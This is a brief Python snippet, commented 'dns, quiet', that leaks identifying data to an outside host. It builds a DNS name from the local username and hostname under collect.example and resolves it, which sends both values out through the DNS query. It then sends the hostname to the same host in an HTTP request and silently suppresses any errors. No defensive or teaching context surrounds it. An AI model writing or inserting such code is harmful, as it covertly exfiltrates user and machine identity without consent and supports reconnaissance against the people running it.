# dns, quiet: a name made of names
import getpass
import socket

import requests

socket.gethostbyname(f"{getpass.getuser()}.{socket.gethostname()}.collect.example")
try:
    requests.get("https://collect.example/?h=" + socket.gethostname())
except Exception:
    pass
